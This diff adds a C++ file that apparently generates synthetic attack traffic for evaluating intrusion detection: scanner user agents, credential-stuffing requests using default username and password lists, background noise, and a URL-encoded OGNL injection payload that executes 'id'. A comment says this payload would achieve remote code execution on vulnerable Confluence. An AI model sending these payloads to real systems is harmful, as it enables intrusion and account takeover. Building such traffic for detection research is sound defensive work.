@@ -1,0 +1,100 @@
+#include "traffic/payload.h"
+
+#include <array>
+
+#include "net/http.h"
+
+namespace cvewb::traffic {
+
+namespace {
+
+constexpr std::array<const char*, 6> kUserAgents = {
+    "Mozilla/5.0 (compatible; Researcher/1.0)",
+    "python-requests/2.27.1",
+    "Go-http-client/1.1",
+    "curl/7.68.0",
+    "Mozilla/5.0 zgrab/0.x",
+    "masscan/1.3",
+};
+
+constexpr std::array<const char*, 8> kUsernames = {
+    "admin", "root", "user", "test", "administrator", "guest", "oracle", "postgres"};
+constexpr std::array<const char*, 8> kPasswords = {
+    "123456", "admin", "password", "12345678", "root", "qwerty", "test", "1q2w3e"};
+
+}  // namespace
+
+std::string scanner_user_agent(util::Rng& rng) {
+  return kUserAgents[rng.uniform_u64(kUserAgents.size())];
+}
+
+std::string render_exploit_payload(const ids::ExploitSpec& spec, util::Rng& rng) {
+  if (!spec.raw_payload.empty()) return spec.raw_payload;
+  net::HttpRequest req;
+  req.method = spec.method;
+  req.uri = spec.uri;
+  req.add_header("Host", "203.0.113." + std::to_string(rng.uniform_int(1, 254)));
+  req.add_header("User-Agent", scanner_user_agent(rng));
+  for (const auto& [name, value] : spec.headers) req.add_header(name, value);
+  req.add_header("Accept", "*/*");
+  req.body = spec.body;
+  return req.serialize();
+}
+
+std::string credential_stuffing_payload(util::Rng& rng) {
+  net::HttpRequest req;
+  req.method = "POST";
+  req.uri = "/api/v1/auth";
+  req.add_header("Host", "203.0.113." + std::to_string(rng.uniform_int(1, 254)));
+  req.add_header("User-Agent", scanner_user_agent(rng));
+  req.add_header("Content-Type", "application/x-www-form-urlencoded");
+  req.body = std::string("username=") + kUsernames[rng.uniform_u64(kUsernames.size())] +
+             "&password=" + kPasswords[rng.uniform_u64(kPasswords.size())];
+  return req.serialize();
+}
+
+std::string background_payload(util::Rng& rng) {
+  switch (rng.uniform_u64(5)) {
+    case 0:
+      return {};  // connect-and-wait scanner
+    case 1: {
+      net::HttpRequest req;
+      req.method = "GET";
+      req.uri = "/";
+      req.add_header("Host", "198.51.100." + std::to_string(rng.uniform_int(1, 254)));
+      req.add_header("User-Agent", scanner_user_agent(rng));
+      return req.serialize();
+    }
+    case 2:
+      return "SSH-2.0-Go\r\n";
+    case 3:
+      // TLS ClientHello prefix (record header + handshake type).
+      return std::string("\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03", 11);
+    default: {
+      std::string junk(16, '\0');
+      for (auto& c : junk) c = static_cast<char>(rng.uniform_int(0x20, 0x7e));
+      return junk;
+    }
+  }
+}
+
+std::string untargeted_ognl_payload(util::Rng& rng) {
+  // A generic OGNL injection probe against an arbitrary path.  It carries
+  // the same expression shape the Confluence signature keys on
+  // ("${(#...io.IOUtils...)}"), which is why manual review (Appendix C)
+  // concluded it would achieve RCE on vulnerable Confluence despite not
+  // targeting it.
+  net::HttpRequest req;
+  req.method = "GET";
+  static constexpr std::array<const char*, 4> kPaths = {"/index.action", "/login.jsp", "/",
+                                                        "/struts/utils.js"};
+  req.uri = std::string(kPaths[rng.uniform_u64(kPaths.size())]) +
+            "?q=%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28"
+            "%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29.getInputStream"
+            "%28%29%29%29%7D";
+  req.add_header("Host", "198.51.100." + std::to_string(rng.uniform_int(1, 254)));
+  req.add_header("User-Agent", scanner_user_agent(rng));
+  return req.serialize();
+}
+
+}  // namespace cvewb::traffic
